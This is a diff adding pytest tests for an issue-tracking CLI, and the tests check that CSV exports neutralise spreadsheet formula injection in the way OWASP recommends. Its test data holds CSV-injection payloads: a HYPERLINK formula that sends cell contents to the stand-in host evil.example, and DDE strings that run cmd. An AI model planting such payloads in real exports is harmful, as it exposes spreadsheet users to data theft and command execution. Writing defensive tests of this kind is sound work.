@@ -1,0 +1,66 @@
+"""Input and output hardening of the CLI (issue #20, item 6): CSV that is safe to
+open in a spreadsheet, user ids that are ids, and a ``--now`` the clock can use."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+
+from _desk import Desk
+
+sqlite_only = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+# --- CSV -----------------------------------------------------------------------------
+
+@sqlite_only
+def test_list_csv_neutralises_formulas(desk: Desk, itsm: Any) -> None:
+    """A title is text from the reporter: in ``itsm list --csv`` a cell that
+    begins with = + - @ must be text to a spreadsheet, not a formula (OWASP: a
+    leading ' and double quotes)."""
+    o = desk.org
+    keys = [desk.new("incident", o.agent.id, f"2026-03-02 09:0{i}", reporter=o.reporter, title=title)["key"]
+            for i, title in enumerate(FORMULAS)]
+    text = itsm("list", "--csv", user=o.agent.id).stdout
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["key"] for r in rows] == keys
+    assert [r["title"] for r in rows] == ["'" + t for t in FORMULAS]
+    for title in FORMULAS:
+        assert '"\'' + title.replace('"', '""') + '"' in text  # quoted, so no ; or , inside starts a cell
+    for line in text.splitlines():
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
+
+
+def test_csv_fields_the_way_owasp_recommends() -> None:
+    from engine.render import csv_field, to_csv
+
+    assert csv_field("=1+2\";=1+2") == "\"'=1+2\"\";=1+2\""  # OWASP's own examples
+    assert csv_field("=1+2'\" ;,=1+2") == "\"'=1+2'\"\" ;,=1+2\""
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_field(start + "cmd") == f"\"'{start}cmd\""
+    assert csv_field("a;=1+2") == '"a;=1+2"'  # ; separates cells in many locales
+    assert csv_field("Printer, floor 3") == '"Printer, floor 3"'
+    assert csv_field("wang.lei") == "wang.lei" and csv_field("") == "" and csv_field(None) == ""
+    assert csv_field(-3) == "-3" and csv_field(-2.5) == "-2.5"  # numbers stay numbers
+    assert csv_field("-3") == "\"'-3\""  # text that only looks like one does not
+    cols = [("name", "Name", lambda r: r["name"]), ("n", "N", lambda r: r["n"]),
+            ("ok", "OK", lambda r: r["ok"]), ("tags", "Tags", lambda r: r["tags"])]
+    out = to_csv([{"name": "\t=cmd", "n": -1, "ok": True, "tags": ["-x", "y"]}], cols)
+    assert out == "name,n,ok,tags\n\"'\t=cmd\",-1,yes,\"'-x, y\"\n"
+    assert list(csv.reader(io.StringIO(out)))[1] == ["'\t=cmd", "-1", "yes", "'-x, y"]
+
+
+def test_report_csv_neutralises_formulas() -> None:
+    from engine.reports.render import to_csv
+
+    doc = {"kpis": [{"id": "major", "tables": [{"id": "list", "columns": [{"id": "title"}, {"id": "n"}],
+                                                  "rows": [{"title": "=cmd|' /C calc'!A0", "n": -1}]}]}]}
+    assert to_csv(doc) == "kpi,table,row,column,value\nmajor,list,1,title,\"'=cmd|' /C calc'!A0\"\n" \
+                          "major,list,1,n,-1\n"
